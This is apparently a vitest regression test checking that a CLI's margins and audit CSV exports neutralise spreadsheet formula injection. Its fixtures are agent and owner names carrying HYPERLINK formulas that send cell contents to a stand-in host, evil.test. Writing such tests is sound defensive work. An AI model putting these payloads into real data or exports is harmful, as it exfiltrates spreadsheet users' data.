import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { MarginsReport } from '../../shared/contract/billing';
import { marginsCsv } from '../../shared/domain/margins-csv';
import { makeTempDir, OWNER, removeDir } from '../fixtures/backend';
import { runCliIn } from '../fixtures/cli';

// Issue #14, finding 7: an agent named `-1+1+HYPERLINK(...)` went out live in the console's margins
// CSV, and `orgdeck audit export` had no guard at all (an actor named `=HYPERLINK(...)`).
const EVIL_AGENT = '-1+1+HYPERLINK("http://evil.test/?x="&B2)';
const EVIL_OWNER = '=HYPERLINK("http://evil.test/steal")';
const MONTH = '2026-01';
let dataDir: string;

async function cli(...args: string[]): Promise<string> {
  const result = await runCliIn(dataDir, args, OWNER.password);
  expect(result.code, result.err).toBe(0);
  return result.out;
}

beforeAll(async () => {
  dataDir = makeTempDir('orgdeck-csv-');
  await cli('init', '--owner-email', OWNER.ownerEmail, '--owner-name', EVIL_OWNER, '--password-stdin');
  const org = JSON.parse(await cli('org', 'create', '--name', '@Acme', '--rate', '30.00', '--json')) as {
    id: string;
  };
  const agent = JSON.parse(
    await cli('agent', 'create', `--name=${EVIL_AGENT}`, '--handle', 'evil', '--json'),
  ) as {
    id: string;
  };
  await cli(
    'call',
    'agents.assign',
    '--input',
    JSON.stringify({ agentIds: [agent.id], orgId: org.id, at: '2026-01-01T00:00:00Z' }),
  );
}, 60_000);

afterAll(() => removeDir(dataDir));

/** No cell, read back as a spreadsheet would, starts like a formula unless it is a plain number. */
function expectNoFormula(csv: string): void {
  for (const line of csv.trimEnd().split('\r\n')) {
    // The guarded names hold commas inside quotes; these lines quote every cell that could start one.
    for (const cell of line.match(/("([^"]|"")*"|[^,]*)(,|$)/g) ?? []) {
      const text = cell.replace(/,$/, '').replace(/^"|"$/g, '');
      if (/^[=+\-@\t\r]/.test(text)) expect(text).toMatch(/^-?\d+(\.\d+)?$/);
    }
  }
}

describe('CSV exports neutralise formulas', () => {
  it('the margins CSV: the agent name is text, the amounts stay numbers, console and CLI alike', async () => {
    const cliCsv = await cli('report', 'margins', '--month', MONTH, '--format', 'csv');
    const report = JSON.parse(
      await cli('report', 'margins', '--month', MONTH, '--format', 'json'),
    ) as MarginsReport;
    const consoleCsv = marginsCsv(report);
    // One implementation: the CLI prints the console's file (its last line end added by printing).
    expect(`${cliCsv}\r\n`).toBe(consoleCsv);
    const lines = consoleCsv.trimEnd().split('\r\n');
    expect(lines[0]).toBe(
      'month,level,org,org_slug,agent,agent_handle,agents_billed,revenue_usd,revenue_agents_usd,revenue_usage_usd,minimum_topup_usd,cost_usd,margin,input_tokens,output_tokens,unpriced_tokens,budget_usd,budget_state',
    );
    expect(lines).toContain(
      `${MONTH},agent,'@Acme,acme,"'-1+1+HYPERLINK(""http://evil.test/?x=""&B2)",evil,,30.00,30.00,0.00,,0.000000,1,0,0,0,,`,
    );
    expectNoFormula(consoleCsv);
  });

  it('orgdeck audit export: an actor named =HYPERLINK(...) is text, with the console’s columns', async () => {
    const file = join(dataDir, 'audit.csv');
    await cli('audit', 'export', '--out', file);
    const csv = readFileSync(file, 'utf8');
    const lines = csv.trimEnd().split('\r\n');
    expect(lines[0]).toBe('id,at,actor,org_id,org,action,target_type,target_id,summary,hash');
    const created = lines.find((line) => line.includes(',org.created,') && line.includes('@Acme'));
    expect(created).toMatch(/^\d+,[^,]+,local owner \(CLI\),[0-9a-f-]+,'@Acme,org\.created,/);
    const setup = lines.filter((line) => line.includes('HYPERLINK("'.replaceAll('"', '""')));
    expect(setup.length).toBeGreaterThan(0);
    for (const line of setup)
      expect(line).toMatch(/^\d+,[^,]+,"'=HYPERLINK\(""http:\/\/evil\.test\/steal""\) </);
    expectNoFormula(csv);
  });
});
